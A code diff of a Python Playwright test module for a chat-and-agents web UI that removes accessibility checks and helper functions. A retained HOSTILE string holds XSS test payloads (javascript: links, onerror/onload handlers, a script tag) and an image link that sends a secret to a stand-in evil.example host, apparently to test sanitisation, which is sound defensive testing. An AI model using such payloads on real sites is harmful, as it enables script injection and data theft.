@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import asyncio
-import json
 import re
 import signal
 import socketserver
@@ -19,186 +18,17 @@ from playwright.async_api import Browser, Page, expect
 
 from bullpen.testing import NO_LIMITS
 from tests.cli.processes import free_port, running
-from tests.page.house import PASSWORD, House, Visit, claimed, cookie_in
-from tests.waits import until
+from tests.page.house import House, Visit, claimed
+from tests.page.views import busy_room
 
-AXE = Path(__file__).parents[2] / "ui" / "node_modules" / "axe-core" / "axe.min.js"
-# What axe can find in the dark and not in the light. By id: `cat.color` also has a stricter rule, off by default.
-COLOUR_RULES = ["color-contrast", "link-in-text-block"]
-SERIOUS = """async rules => {
-const options = {resultTypes: ['violations'], ...(rules ? {runOnly: {type: 'rule', values: rules}} : {})};
-const {violations} = await axe.run(document, options);
-return violations.filter(each => ['serious', 'critical'].includes(each.impact))
-.flatMap(each => each.nodes.map(node => `${each.id}: ${node.html.slice(0, 160)}`)) }"""
 HOSTILE = """[click](javascript:alert(1)) <img src=x onerror="document.title='owned'"> <svg/onload=alert(2)>
 ![secret](https://evil.example/?d=SECRET)
 <script>document.title='owned'</script> [good](https://good.example/page) [a lie](https://evil.example/)"""
-
-CITY = {"type": "object", "properties": {"city": {"type": "string", "title": "City"}}, "required": ["city"]}
-
-
-async def busy_room(house: House) -> str:
-    """A bit of everything."""
-    await house.tool("confirm")
-    chart = {"executionType": "internal", "visible": True, "isAsync": False}
-    await house.tool("show_chart", **chart)
-    await house.tool("refund_order", **chart, policy="ask", timeout=600_000)
-    rows = [{"day": "Mon", "signups": 41}, {"day": "Tue", "signups": 47}]
-    agent = await house.agent(
-        "Ada",
-        turns=[
-            {
-                "when": "figures",
-                "steps": [
-                    {"calls": [{"tool": "show_chart", "args": {"title": "Signups", "type": "bar", "rows": rows}}]},
-                    {"calls": [{"tool": "confirm", "args": {"question": "Send it?"}}]},
-                    {"calls": [{"tool": "send_message", "args": {"text": "- one\n- two\n\n```python\nx = 1\n```"}}]},
-                ],
-            },
-            {"when": "refund", "steps": [{"calls": [{"tool": "refund_order", "args": {"orderId": 1}}]}]},
-        ],
-        tools=["messaging", "confirm", "show_chart", "refund_order"],
-    )
-    room = await house.room(agent)
-    await house.post(room, "the figures, please")
-
-    async def answered() -> bool:
-        return any("- one" in message["text"] for message in await house.messages(room))
-
-    await until(answered)  # else it may read both in one run, and answer the newer alone
-    await house.post(room, "and a refund")
-    return room
-
-
-class Views:
-    """What axe finds in each view, light and dark.
-
-    Only colours differ between the two (ui/src/look/tokens.css), so in the dark only their rules are run.
-    """
-
-    def __init__(self, visit: Visit) -> None:
-        self.visit = visit
-        self.found: dict[str, dict[str, list[str]]] = {"light": {}, "dark": {}}
-
-    async def check(self, name: str) -> None:
-        page = self.visit.page
-        if not await page.evaluate("'axe' in window"):
-            await page.evaluate(AXE.read_text())
-        for theme, rules in (("dark", COLOUR_RULES), ("light", None)):
-            await page.emulate_media(color_scheme=theme)  # type: ignore[arg-type]
-            self.found[theme][name] = await page.evaluate(SERIOUS, rules)
-
-
-async def room_with_a_form(house: House) -> str:
-    await house.tool("form")
-    form = {"calls": [{"tool": "form", "args": {"title": "Where to?", "schema": CITY}}]}
-    room = await house.room(await house.agent("Fay", form, tools=["messaging", "form"]))
-    await house.post(room, "a form, please")
-    return room
-
-
-async def newcomer(house: House, name: str) -> Any:
-    """Somebody who is in no room yet and has not seen the tour."""
-    await house.ask("POST", "/people", json={"name": name, "password": PASSWORD})
-    async with httpx.AsyncClient(base_url=f"{house.url}/api") as http:
-        return cookie_in(await http.post("/session", json={"name": name, "password": PASSWORD}), house.url)
 
 
 @pytest_asyncio.fixture(scope="module", loop_scope="session")
 async def busy(house: House) -> str:
     return await busy_room(house)
-
-
-@pytest_asyncio.fixture(scope="module", loop_scope="session")
-async def views(house: House, browser: Browser, busy: str) -> Views:
-    """Every view, looked at once."""
-    if not AXE.exists():
-        pytest.skip("axe-core is not installed: run `python -m tools.page install` where npm can fetch it")
-    visit = Visit(house, browser)
-    await visit.open(house.cookie, bypass_csp=True)
-    made = Views(visit)
-    await look_at_a_room(made, house, busy)
-    await look_at_work(made, house, busy)
-    await look_on_a_phone(made, busy)
-    await look_at_the_way_in(made, house)
-    await visit.close()
-    return made
-
-
-async def look_at_a_room(views: Views, house: House, room: str) -> None:
-    page = await views.visit.room(room)
-    await expect(page.get_by_role("region", name=re.compile("Approval wanted"))).to_be_visible()
-    await expect(page.locator("svg.recharts-surface").first).to_be_visible()
-    await views.check("room")
-    await page.get_by_role("button", name="Room details").click()
-    await expect(page.get_by_role("complementary", name="Room details")).to_be_visible()
-    await views.check("details")
-    await page.get_by_role("button", name="Search in this room").click()
-    await page.keyboard.type("fig")
-    await expect(page.get_by_role("complementary", name="Search in this room").locator("mark").first).to_be_visible()
-    await views.check("search in the room")
-    await page.keyboard.press("Control+k")
-    await expect(page.get_by_role("combobox", name="Search or jump to")).to_be_visible()
-    await views.check("palette")
-    await page.keyboard.press("Escape")
-    await expect(page.get_by_role("combobox", name="Search or jump to")).to_have_count(0)
-    for panel, name in (("thread", "Replies"), ("why", "Why?")):
-        await views.visit.go(f"/rooms/{room}?panel={panel}:{(await house.messages(room))[-2]['id']}")
-        await expect(page.get_by_role("complementary", name=name)).to_be_visible()
-        await expect(page.get_by_label("Loading")).to_have_count(0)
-        await views.check(panel)
-
-
-async def look_at_work(views: Views, house: House, room: str) -> None:
-    page = views.visit.page
-    members = (await house.ask("GET", f"/spaces/{room}"))["members"]
-    agent = next(id for id in members if id.startswith("ada"))
-    run = (await house.ask("GET", "/runs", params={"spaceId": room}))["items"][-1]["id"]
-    schedule = {"scheduleType": "cron", "scheduleValue": "0 9 * * *"}
-    body = {"spaceId": room, "agentId": agent, "prompt": "Say good morning.", **schedule}
-    task = (await house.ask("POST", "/tasks", json=body))["id"]
-    work = ("/people", "/models", "/costs", "/pending", "/runs", f"/runs/{run}", "/tasks", f"/tasks/{task}", "/agents")
-    connect = f"/agents/{agent}?tab=Model+and+limits"
-    for path in (*work, f"/agents/{agent}", connect, "/search?q=figures", "/settings"):
-        await views.visit.go(path)
-        await expect(page.locator("main h1")).to_be_visible()
-        await expect(page.get_by_label("Loading")).to_have_count(0)
-        await views.check(path)
-
-
-async def look_on_a_phone(views: Views, room: str) -> None:
-    page = views.visit.page
-    await page.set_viewport_size({"width": 390, "height": 800})
-    for path in (f"/rooms/{room}", "/rooms", "/pending"):
-        await views.visit.go(path)
-        await expect(page.get_by_role("navigation", name="Main, below").or_(page.get_by_role("log"))).to_be_visible()
-        await expect(page.get_by_label("Loading")).to_have_count(0)
-        await views.check(f"{path} on a phone")
-    await page.set_viewport_size({"width": 1280, "height": 800})
-
-
-async def look_at_the_way_in(views: Views, house: House) -> None:
-    page = views.visit.page
-    await views.visit.context.clear_cookies()
-    await views.visit.load("/")
-    await expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
-    await views.check("door")
-    form = await room_with_a_form(house)
-    await views.visit.context.add_cookies([await newcomer(house, "Newcomer")])
-    await views.visit.load("/")
-    await expect(page.get_by_role("heading", name="Welcome")).to_be_visible()
-    await views.check("welcome")
-    await page.get_by_role("button", name=f"Join {form}").click()
-    await expect(page.get_by_role("region", name="Start here")).to_be_visible()
-    await expect(page.get_by_role("region", name="Where to?").get_by_label("City")).to_be_visible()
-    await views.check("tour and form")
-
-
-@pytest.mark.parametrize("theme", ["light", "dark"])
-async def test_axe_finds_nothing_serious_on_any_page(views: Views, theme: str) -> None:
-    found = views.found[theme]
-    assert len(found) == 25
-    assert not any(found.values()), json.dumps(found, indent=1)
 
 
 async def test_the_keyboard_is_enough(house: House, visit: Visit) -> None:
